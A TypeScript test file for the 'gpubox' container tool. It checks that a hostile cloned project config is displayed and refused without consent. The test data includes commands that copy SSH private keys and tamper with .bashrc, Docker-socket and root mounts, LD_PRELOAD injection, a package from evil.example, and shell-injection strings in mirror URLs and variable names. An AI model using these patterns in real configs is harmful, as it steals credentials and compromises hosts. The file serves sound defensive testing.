import assert from 'node:assert/strict';
import {execFileSync} from 'node:child_process';
import {mkdir, readdir, readFile, rm, stat, symlink, writeFile} from 'node:fs/promises';
import {createServer} from 'node:net';
import {join} from 'node:path';
import {after, afterEach, before, describe, test} from 'node:test';
import {dockerOf, makePerson, openTerminal, type Person, type Terminal, testHost} from '../_helpers/test-host/index.ts';

// A clone of somebody whom nobody knows: what it asks for is shown, and nothing of it happens before a yes.

const host = testHost();
const docker = dockerOf(host);
const {jupyter: image} = host.images;

let person: Person;
let key: string;
before(async () => {
	person = await makePerson(host, 'trusting');
	await mkdir(join(person.home, '.ssh'), {mode: 0o700});
	await writeFile(join(person.home, '.ssh/id_ed25519'), 'a private key\n', {mode: 0o600});
	await writeFile(join(person.home, '.bashrc'), '# mine\n');
	await mkdir(join(person.project, 'keys'), {recursive: true});
	key = `ssh-ed25519 ${Buffer.from('the key of a stranger, long enough for one').toString('base64')} mallory`;
	await writeFile(join(person.project, 'keys/team.pub'), `${key}\n`);
});
afterEach(async () => {
	const own = (await boxes()).map(({Names}) => (Names[0] ?? '').replace('/gpubox-', ''));
	if (own.length > 0) {
		await person.runGpubox(['rm', '--yes', ...own]);
	}

	await person.runGpubox(['trust', '--forget']);
	await rm(join(person.project, 'gpubox.yaml'), {force: true});
});
after(() => person.remove());

async function boxes() {
	const all = await docker.listContainers({all: true, filters: {label: ['gpubox.name']}});
	return all.filter(({Labels}) => Labels['gpubox.project']?.startsWith(person.project));
}

function write(lines: string[]): Promise<void> {
	return writeFile(join(person.project, 'gpubox.yaml'), `${[`image: ${image}`, 'gpus: none', ...lines].join('\n')}\n`);
}

/** Everything in the person's folders, with its size and when it changed. */
async function traces(): Promise<string[]> {
	const found: string[] = [];
	for (const folder of [person.home, person.project]) {
		for (const name of await readdir(folder, {recursive: true})) {
			// Node keeps gpubox's own compiled code there.
			if (name === '.cache' || name.includes('gpubox-code')) {
				continue;
			}

			const info = await stat(join(folder, name)).catch(() => undefined);
			found.push(`${join(folder, name)} ${info?.size} ${info?.mtimeMs}`);
		}
	}

	return found.sort();
}

const hostile = () => [
	'services: [jupyter, ssh]',
	`mounts: ["~/.ssh:/keys", "~:/home-of-hers", "/:/host:ro", "${host.address.replace('unix://', '')}:/engine.sock"]`,
	'secrets: [AWS_SECRET_ACCESS_KEY]',
	'postCreate: cat /keys/id_ed25519 > /workspace/stolen; echo evil >> /home-of-hers/.bashrc',
	'env: {LD_PRELOAD: /workspace/evil.so, PYTHONSTARTUP: /workspace/evil.py}',
	'ssh: {keys: [keys/team.pub]}',
	'bind: 0.0.0.0',
	'packages: {pip: ["einops @ https://evil.example/einops.whl"]}',
];

const everything = [
	/mounts +\S+\/\.ssh at \/keys, writable {2}\(outside of the project\)/,
	/mounts +\S+\/home at \/home-of-hers, writable {2}\(your whole home/,
	/mounts +\/ at \/host, read-only {2}\(the engine's socket/,
	/mounts +\S+\.sock at \/engine\.sock, writable {2}\(the engine's socket/,
	/secrets +AWS_SECRET_ACCESS_KEY {2}\(one of your secrets\)/,
	/postCreate +cat \/keys\/id_ed25519 > \/workspace\/stolen; echo evil >> \/home-of-hers\/\.bashrc/,
	/env\.LD_PRELOAD +\/workspace\/evil\.so/,
	/env\.PYTHONSTARTUP +\/workspace\/evil\.py/,
	/ssh\.keys +keys\/team\.pub\s+SHA256:[\w+/]{43} mallory/,
	/bind +0\.0\.0\.0/,
	/packages\.pip +einops @ https:\/\/evil\.example\/einops\.whl/,
];

describe('a hostile clone', () => {
	test('without a terminal is shown whole, and nothing is made, read or run', async () => {
		await write(hostile());
		const before = await traces();
		const {code, stdout, stderr} = await person.runGpubox(['up'], {env: {AWS_SECRET_ACCESS_KEY: 'very secret'}});
		assert.equal(code, 2, stderr);
		assert.equal(stdout, '');
		for (const wish of everything) {
			assert.match(stderr, wish);
		}

		assert.match(stderr, /→ If you trust it: gpubox trust \S+, or --trust\n$/);
		assert.doesNotMatch(stderr, /very secret|a private key/);
		assert.deepEqual(await traces(), before);
		assert.deepEqual(await boxes(), []);
	});

	test('on a terminal is asked about, and no leaves nothing behind', async () => {
		await write(hostile());
		const before = await traces();
		for (const answer of ['n\r', '\r']) {
			const terminal = openTerminal(host, person, ['up'], {env: {AWS_SECRET_ACCESS_KEY: 'very secret'}});
			const shown = await terminal.waitFor('Do you trust it with this? [y/N]');
			assert.match(shown, /env\.LD_PRELOAD +\/workspace\/evil\.so/);
			assert.doesNotMatch(shown, /very secret/);
			terminal.write(answer);
			assert.equal((await terminal.exited).exitCode, 1);
			assert.match(terminal.screen(), /Cancelled: nothing was changed\./);
		}

		assert.deepEqual(await traces(), before);
		assert.deepEqual(await boxes(), []);
	});

	test('a whole home, the root of the disk and the socket take a yes each', async () => {
		await write(hostile());
		const terminal = openTerminal(host, person, ['up'], {env: {AWS_SECRET_ACCESS_KEY: 'x'}});
		await terminal.waitFor('Do you trust it with this? [y/N]');
		terminal.write('y\r');
		await terminal.waitFor(/at \/home-of-hers[^?]*Are you sure\? \[y\/N\]/);
		terminal.write('y\r');
		await terminal.waitFor(/\/ at \/host[^?]*Are you sure\? \[y\/N\]/);
		terminal.write('n\r');
		assert.equal((await terminal.exited).exitCode, 1);
		assert.deepEqual(await boxes(), []);
		const {stdout} = await person.runGpubox(['trust', '--json']);
		const {asks} = JSON.parse(stdout) as {asks: Array<{agreed: boolean}>};
		assert.equal(asks.length, everything.length);
		assert.ok(asks.every(({agreed}) => !agreed));
	});

	test('in the session it takes a screen of its own, and no starts nothing', async () => {
		await write(hostile());
		const terminal = openTerminal(host, person, [], {columns: 80, rows: 24});
		await terminal.waitFor(/u up|set up/);
		terminal.write('u');
		const first = await terminal.waitFor(/Do you trust it with this\?.*y ⏎ yes {2}n no/);
		assert.match(first, /A question first/);
		const seen = await scrollThrough(terminal, first);
		for (const wish of [/AWS_SECRET_ACCESS_KEY/, /evil\.so/, /id_ed25519/, /mallory/, /0\.0\.0\.0/]) {
			assert.match(seen, wish);
		}

		terminal.write('n');
		await terminal.waitFor('Cancelled: nothing was changed.');
		assert.deepEqual(await boxes(), []);
		terminal.write('q');
		assert.equal((await terminal.exited).exitCode, 0);
	});

	test('--dry-run needs no answer, and says what would be asked', async () => {
		await write(['postCreate: touch ran', 'secrets: [HF_TOKEN]']);
		const {code, stdout, stderr} = await person.runGpubox(['up', '--dry-run']);
		assert.equal(code, 0, stderr);
		assert.match(stderr, /would first ask whether you agree to: postCreate, secrets/);
		assert.match(stdout, /^docker run/);
	});
});

/** All that the question shows, line by line down to its end. */
async function scrollThrough(terminal: Terminal, first: string): Promise<string> {
	let seen = first;
	const [, last, all] = /–(\d+) of (\d+)/.exec(first) ?? [];
	for (let line = Number(last ?? 0); line < Number(all ?? 0); line++) {
		terminal.write('j');
		seen += await terminal.waitFor(new RegExp(`–${line + 1} of ${all}`));
	}

	return seen;
}

describe('an answer', () => {
	const ask = async (terminal: Terminal) => terminal.waitFor('Do you trust it with this? [y/N]', {seconds: 60});

	test('holds for what was shown, and only what is new is asked about again', async () => {
		await mkdir(join(person.home, 'data'), {recursive: true});
		await write(['mounts: ["~/data:/data:ro"]', 'postCreate: touch ran-once']);
		const first = openTerminal(host, person, ['up', '--json']);
		await ask(first);
		assert.deepEqual(await boxes(), []);
		first.write('y\r');
		assert.equal((await first.exited).exitCode, 0, first.screen());
		assert.equal((await boxes()).length, 1);
		await stat(join(person.project, 'ran-once'));

		// The same, in another order, with less, and with what needs no answer.
		for (const lines of [
			['postCreate: touch ran-once', 'mounts: ["~/data:/data:ro"]', 'env: {SEED: 1}'],
			['postCreate: touch ran-once'],
			[],
		]) {
			await write(lines);
			const {code, stderr} = await person.runGpubox(['up', '--json']);
			assert.equal(code, 0, stderr);
		}

		await write(['mounts: ["~/data:/data:ro"]', 'postCreate: touch ran-once', 'secrets: [HF_TOKEN]']);
		const {code, stderr} = await person.runGpubox(['up']);
		assert.equal(code, 2);
		assert.match(stderr, /secrets +HF_TOKEN/);
		assert.doesNotMatch(stderr, /postCreate|mounts/);
		const again = openTerminal(host, person, ['up', '--json', '--recreate'], {env: {HF_TOKEN: 'x'}});
		const shown = await ask(again);
		assert.match(shown, /now also requests:/);
		assert.doesNotMatch(shown, /postCreate|mounts/);
		again.write('y\r');
		assert.equal((await again.exited).exitCode, 0, again.screen());
	});

	test('--trust is a yes to exactly this', async () => {
		await write(['postCreate: touch ran-by-script']);
		const {code, stderr} = await person.runGpubox(['up', '--json', '--trust']);
		assert.equal(code, 0, stderr);
		await stat(join(person.project, 'ran-by-script'));
		assert.equal((await person.runGpubox(['up', '--json'])).code, 0);
		await write(['postCreate: touch ran-by-script; id']);
		assert.equal((await person.runGpubox(['up', '--json'])).code, 2);
	});

	test('gpubox trust shows, keeps and takes back; the file itself has no say', async () => {
		await write(['postCreate: touch x']);
		assert.equal((await person.runGpubox(['trust'])).code, 2);
		const kept = await person.runGpubox(['trust', '--yes']);
		assert.equal(kept.code, 0, kept.stderr);
		assert.match(kept.stdout, /postCreate +touch x/);
		const shown = JSON.parse((await person.runGpubox(['trust', '--json'])).stdout);
		assert.deepEqual(shown.asks, [{key: 'postCreate', text: 'touch x', why: 'runs in the box, as you', agreed: true}]);
		const folder = join(person.home, '.local/state/gpubox/trust');
		const [name = ''] = await readdir(folder);
		assert.equal((await stat(join(folder, name))).mode & 0o777, 0o600);
		assert.equal((await person.runGpubox(['trust', '--forget'])).code, 0);
		assert.equal((await person.runGpubox(['up'])).code, 2);
		await write(['trust: true']);
		assert.match((await person.runGpubox(['up'])).stderr, /Unknown setting "trust"/);
	});

	test('is not needed for what the person says in flags, but for their whole home it is', async () => {
		await mkdir(join(person.home, 'data'), {recursive: true});
		await write([]);
		const options = ['--mount', `${person.home}/data:/data`, '--env', 'LD_LIBRARY_PATH=/x'];
		assert.equal((await person.runGpubox(['up', '--json', ...options])).code, 0);
		for (const folder of [person.home, '/']) {
			const {code, stderr} = await person.runGpubox(['up', '--mount', `${folder}:/x`]);
			assert.equal(code, 2, stderr);
			assert.match(stderr, /needs your confirmation/);
		}

		const {code, stderr} = await person.runGpubox(['up', person.home, '--gpus', 'none', '--image', image]);
		assert.equal(code, 2);
		assert.match(stderr, /project +\S+\/home {2}\(your whole home/);
	});

	test('to a key file is to the keys in it', async () => {
		await write(['services: [ssh]', 'ssh: {keys: [keys/team.pub]}']);
		assert.equal((await person.runGpubox(['trust', '--yes'])).code, 0);
		await writeFile(
			join(person.project, 'keys/team.pub'),
			`${key}\n${key.replace('mallory', 'eve').replace('AAA', 'AAB').replace('dGhl', 'dGhm')}\n`,
		);
		const {code, stderr} = await person.runGpubox(['up']);
		assert.equal(code, 2);
		assert.match(stderr, / eve/);
		await writeFile(join(person.project, 'keys/team.pub'), `${key}\n`);
	});
});

describe('what no one may set', () => {
	for (const [what, lines, words] of [
		[
			'a mirror of packages',
			['build: {aptMirror: "https://mirror.example/;touch /tmp/x|e;#"}'],
			/"build\.aptMirror" cannot be set in a project/,
		],
		[
			'a registry',
			['build: {registryMirror: "127.0.0.1:5009"}'],
			/"build\.registryMirror" cannot be set in a project[\s\S]*gpubox config build\.registryMirror/,
		],
		[
			"gpubox's own variable",
			['env: {GPUBOX_SECRET_VARIABLES: "a[$(id)]"}'],
			/GPUBOX_SECRET_VARIABLES is reserved for gpubox \(gpubox\.yaml:3\)/,
		],
		['the cards', ['env: {NVIDIA_VISIBLE_DEVICES: all}'], /NVIDIA_VISIBLE_DEVICES is reserved for gpubox/],
		["a place of gpubox's", ['mounts: ["./keys:/run/gpubox"]'], /Cannot mount at \/run\/gpubox/],
	] as const) {
		test(`${what}, with --trust either`, async () => {
			await write([...lines]);
			const {code, stderr} = await person.runGpubox(['up', '--trust']);
			assert.equal(code, 2, stderr);
			assert.match(stderr, words);
			assert.deepEqual(await boxes(), []);
		});
	}

	test("an image under the name of gpubox's own layers is neither started nor pulled", async () => {
		await writeFile(join(person.project, 'gpubox.yaml'), 'image: gpubox/box:x\ngpus: none\n');
		for (const words of [
			['up', '--trust'],
			['up', '--image', 'gpubox/box:x'],
			['pull', 'gpubox/box:x'],
		]) {
			const {code, stderr} = await person.runGpubox(words);
			assert.equal(code, 2, stderr);
			assert.match(stderr, /has a name that is reserved for layers that gpubox builds/);
		}
	});

	test('the variables of secrets are names to a shell, whatever they hold', async () => {
		const profile = await readFile(join(import.meta.dirname, '../../templates/box/profile.sh'), 'utf8');
		for (const shell of ['bash', 'sh']) {
			const container = await docker.createContainer({
				Image: image,
				Entrypoint: [shell, '-c'],
				Cmd: [
					[
						'mkdir -p /run/secrets /tmp/here && cd /tmp/here',
						"echo value > '/run/secrets/a[$(id>evil)]' && echo value > /run/secrets/GOOD",
						profile,
						'echo "got $GOOD, made $(ls)."',
					].join('\n'),
				],
				User: '0',
				Env: ['GPUBOX_SECRET_VARIABLES=a[$(id>evil)] x=1 ../secrets/GOOD -p 9 GOOD'],
			});
			try {
				await container.start();
				await container.wait();
				const output = (await container.logs({stdout: true, stderr: true})).toString();
				assert.match(output, /got value, made \.\n/, shell);
			} finally {
				await container.remove({force: true});
			}
		}
	});
});

describe('a gpubox.yaml that is no plain file', () => {
	for (const [what, make, words] of [
		['a link to a device', (path: string) => symlink('/dev/zero', path), /it is a device, not a plain file/],
		[
			'a pipe',
			async (path: string) => void execFileSync('mkfifo', ['-m', '666', path]),
			/it is a pipe, not a plain file/,
		],
		['a folder', (path: string) => mkdir(path).then(() => undefined), /it is a folder, not a plain file/],
		['a socket', (path: string) => listen(path), /it is a socket, not a plain file/],
		[
			'a link to a file of the kernel without end',
			(path: string) => symlink('/proc/kallsyms', path),
			/larger than 256 KiB|has \d+ mistakes|:\d+:\d+:/,
		],
	] as const) {
		test(`${what} is told at once, and takes no memory`, async () => {
			const path = join(person.project, 'gpubox.yaml');
			await rm(path, {force: true, recursive: true});
			await make(path);
			try {
				for (const verb of [['up'], ['config', '--show-origin'], ['trust']]) {
					const command = ['-c', watched, 'sh', host.program.node, host.program.cli, ...verb];
					const {code, stderr} = await person.run('sh', command, {signal: AbortSignal.timeout(20_000)});
					assert.equal(code, 2, stderr);
					assert.match(stderr, words);
					const peak = Number(/peak (\d+)/.exec(stderr)?.[1]);
					assert.ok(peak > 0 && peak < 300 * 1024, `${peak} KiB`);
				}
			} finally {
				await rm(path, {force: true, recursive: true});
			}
		});
	}
});

/** Runs a program and tells the most memory that it had, in KiB. */
const watched = `"$@" & pid=$!; peak=0
while [ -r /proc/$pid/status ]; do
	now=$(sed -n 's/^VmHWM:[^0-9]*\\([0-9]*\\).*/\\1/p' /proc/$pid/status 2>/dev/null)
	[ -n "$now" ] && peak=$now || break
	sleep 0.02
done
wait $pid; code=$?
echo "peak $peak" >&2
exit $code`;

async function listen(path: string): Promise<void> {
	const server = createServer();
	server.unref();
	await new Promise<void>((resolve) => server.listen(path, resolve));
}

describe('what is built for everyone', () => {
	test('two people with different mirrors share no layer, with none they do', async () => {
		const other = await makePerson(host, 'other');
		try {
			const layerOf = async (who: Person, mirror?: string) => {
				if (mirror !== undefined) {
					assert.equal((await who.runGpubox(['config', 'build.pipIndexUrl', mirror])).code, 0);
				}

				const {stdout, stderr, code} = await who.runGpubox([
					'up',
					'--dry-run',
					'--ssh',
					'--gpus',
					'none',
					'--image',
					host.images.bare,
				]);
				assert.equal(code, 0, stderr);
				return /gpubox\/box:\S+/.exec(stdout)?.[0];
			};

			const plain = await layerOf(person);
			assert.ok(plain);
			assert.equal(await layerOf(other), plain);
			const mine = await layerOf(person, 'https://one.example/simple');
			const theirs = await layerOf(other, 'https://two.example/simple');
			assert.equal(new Set([plain, mine, theirs]).size, 3);
		} finally {
			await person.runGpubox(['config', 'build.pipIndexUrl', '--unset']);
			await other.remove();
		}
	});

	test('an address that would be a program for sed is refused by the script that builds as well', async () => {
		const script = await readFile(join(import.meta.dirname, '../../templates/derive/install'), 'utf8');
		for (const mirror of [
			'https://m.example/|e;touch /evil;#',
			'https://m.example/\ne touch /evil',
			'http://m.example',
			'https://m.example/&',
		]) {
			const container = await docker.createContainer({
				Image: host.images.bare,
				Entrypoint: ['sh', '-c'],
				Cmd: [
					`printf '#!/bin/sh\\necho called\\n' > /usr/local/bin/apt-get; chmod +x /usr/local/bin/apt-get
echo 'deb https://archive.example/debian stable main' > /etc/apt/sources.list
sh -c "$SCRIPT" install jupyter; echo "code $?"; ls /evil`,
				],
				User: '0',
				Env: [
					`APT_MIRROR=${mirror}`,
					`SCRIPT=${script.replace(/have jupyter-lab[^;]*;/, 'false;').replace('have python3 &&', 'false &&')}`,
				],
			});
			try {
				await container.start();
				await container.wait();
				const output = (await container.logs({stdout: true, stderr: true})).toString();
				assert.match(output, /build\.aptMirror is not an address that starts with https:\/\//, mirror);
				assert.match(output, /code 1/);
				assert.doesNotMatch(output, /called/);
				assert.match(output, /\/evil'?: No such file/);
			} finally {
				await container.remove({force: true});
			}
		}
	});
});

test('--bind beyond this machine is said, with the real address, and marked in the list', async () => {
	await write([]);
	const {code, stdout, stderr} = await person.runGpubox(['up', '--bind', '0.0.0.0']);
	assert.equal(code, 0, stderr);
	assert.match(stderr, /everyone on the network can reach this box over plain HTTP: only the token protects it/);
	assert.match(stdout, /Network {3}http:\/\/(?!127)\d+\.\d+\.\d+\.\d+:\d+\/ \(everyone on the network\)/);
	assert.match((await person.runGpubox(['ls'])).stdout, /jupyter \+open/);
	const {boxes: listed} = JSON.parse((await person.runGpubox(['ls', '--json'])).stdout) as {
		boxes: Array<{project: string; open: boolean}>;
	};
	assert.equal(listed.find(({project}) => project === person.project)?.open, true);
});
